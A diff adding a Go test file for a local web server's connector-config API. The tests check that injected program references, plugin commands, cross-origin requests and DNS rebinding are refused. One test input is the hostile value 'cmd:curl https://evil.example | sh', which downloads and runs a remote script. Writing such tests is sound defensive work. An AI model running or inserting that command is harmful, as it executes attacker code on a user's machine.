@@ -0,0 +1,139 @@
+package web
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"github.com/arkeo/arkeo/internal/config"
+	"github.com/arkeo/arkeo/internal/connectors"
+)
+
+func newTestServer(t *testing.T) *Server {
+	t.Helper()
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+
+	configManager := config.NewManager()
+	if err := configManager.Load(); err != nil {
+		t.Fatalf("Failed to load config: %v", err)
+	}
+	configManager.SetConnectorConfig("gitlab", config.ConnectorConfig{
+		Enabled: true,
+		Config:  map[string]interface{}{"access_token": "cmd:pass show work/gitlab"},
+	})
+
+	registry := connectors.NewConnectorRegistry()
+	registry.Register(connectors.NewGitLabConnector())
+
+	s := New(configManager, registry, nil)
+	s.addr = "localhost:7878"
+	return s
+}
+
+func postConfig(s *Server, body string, header map[string]string) *httptest.ResponseRecorder {
+	req := httptest.NewRequest(http.MethodPost, "http://localhost:7878/api/connectors/config?name=gitlab", strings.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	for k, v := range header {
+		req.Header.Set(k, v)
+	}
+	rec := httptest.NewRecorder()
+	s.routes().ServeHTTP(rec, req)
+	return rec
+}
+
+func TestConnectorConfig_RefusesProgramReferences(t *testing.T) {
+	s := newTestServer(t)
+
+	for _, value := range []string{"cmd:curl https://evil.example | sh", "keyring:arkeo/github"} {
+		rec := postConfig(s, `{"config":{"access_token":"`+value+`"}}`, nil)
+		if !strings.Contains(rec.Body.String(), "can only be set by editing") {
+			t.Errorf("Expected %q to be refused, got %s", value, rec.Body.String())
+		}
+	}
+	if cfg, _ := s.configManager.GetConnectorConfig("gitlab"); cfg.Config["access_token"] != "cmd:pass show work/gitlab" {
+		t.Errorf("Expected the token reference to be unchanged, got %v", cfg.Config["access_token"])
+	}
+
+	// The form sends back the reference from the config file as it is
+	rec := postConfig(s, `{"config":{"access_token":"cmd:pass show work/gitlab","url":"https://gitlab.example.com"}}`, nil)
+	if !strings.Contains(rec.Body.String(), "Settings saved") {
+		t.Errorf("Expected an unchanged reference to be accepted, got %s", rec.Body.String())
+	}
+}
+
+func TestConnectorConfig_RefusesCommand(t *testing.T) {
+	s := newTestServer(t)
+	s.configManager.SetConnectorConfig("demo", config.ConnectorConfig{
+		Enabled: true,
+		Config:  map[string]interface{}{"command": "/opt/arkeo/demo-plugin"},
+	})
+	s.registry.Register(connectors.NewPluginConnector("demo", "/opt/arkeo/demo-plugin"))
+
+	req := httptest.NewRequest(http.MethodGet, "http://localhost:7878/api/connectors/config?name=demo", nil)
+	rec := httptest.NewRecorder()
+	s.routes().ServeHTTP(rec, req)
+	if !strings.Contains(rec.Body.String(), `"fields"`) || strings.Contains(rec.Body.String(), "demo-plugin") {
+		t.Errorf("Expected the plugin command not to be returned, got %s", rec.Body.String())
+	}
+
+	for _, name := range []string{"demo", "gitlab"} {
+		req := httptest.NewRequest(http.MethodPost, "http://localhost:7878/api/connectors/config?name="+name, strings.NewReader(`{"config":{"command":"/tmp/evil"}}`))
+		req.Header.Set("Content-Type", "application/json")
+		rec := httptest.NewRecorder()
+		s.routes().ServeHTTP(rec, req)
+		if !strings.Contains(rec.Body.String(), "can only be set by editing") {
+			t.Errorf("Expected a command for %s to be refused, got %s", name, rec.Body.String())
+		}
+	}
+	if cfg, _ := s.configManager.GetConnectorConfig("demo"); cfg.Config["command"] != "/opt/arkeo/demo-plugin" {
+		t.Errorf("Expected the plugin command to be unchanged, got %v", cfg.Config["command"])
+	}
+	if cfg, _ := s.configManager.GetConnectorConfig("gitlab"); cfg.Config["command"] != nil {
+		t.Errorf("Expected no command for gitlab, got %v", cfg.Config["command"])
+	}
+}
+
+func TestProtect(t *testing.T) {
+	s := newTestServer(t)
+	body := `{"config":{"url":"https://gitlab.example.com"}}`
+
+	tests := []struct {
+		name   string
+		method string
+		host   string
+		header map[string]string
+		status int
+	}{
+		{"same origin", http.MethodPost, "localhost:7878", map[string]string{"Origin": "http://localhost:7878"}, http.StatusOK},
+		{"no origin", http.MethodPost, "127.0.0.1:7878", nil, http.StatusOK},
+		{"other website", http.MethodPost, "localhost:7878", map[string]string{"Origin": "https://evil.example"}, http.StatusForbidden},
+		{"cross-site without origin", http.MethodPost, "localhost:7878", map[string]string{"Sec-Fetch-Site": "cross-site"}, http.StatusForbidden},
+		{"form post", http.MethodPost, "localhost:7878", map[string]string{"Content-Type": "text/plain"}, http.StatusUnsupportedMediaType},
+		{"DNS rebinding", http.MethodPost, "evil.example:7878", map[string]string{"Origin": "http://evil.example:7878"}, http.StatusForbidden},
+		{"put", http.MethodPut, "localhost:7878", nil, http.StatusMethodNotAllowed},
+	}
+
+	for _, tt := range tests {
+		req := httptest.NewRequest(tt.method, "/api/connectors/config?name=gitlab", strings.NewReader(body))
+		req.Host = tt.host
+		req.Header.Set("Content-Type", "application/json")
+		for k, v := range tt.header {
+			req.Header.Set(k, v)
+		}
+		rec := httptest.NewRecorder()
+		s.routes().ServeHTTP(rec, req)
+		if rec.Code != tt.status {
+			t.Errorf("%s: expected status %d, got %d (%s)", tt.name, tt.status, rec.Code, rec.Body.String())
+		}
+	}
+
+	// Mutating endpoints that only accept POST refuse GET
+	req := httptest.NewRequest(http.MethodGet, "/api/connectors/test?name=gitlab", nil)
+	req.Host = "localhost:7878"
+	rec := httptest.NewRecorder()
+	s.routes().ServeHTTP(rec, req)
+	if rec.Code != http.StatusMethodNotAllowed {
+		t.Errorf("Expected GET of the connector test to be refused, got %d", rec.Code)
+	}
+}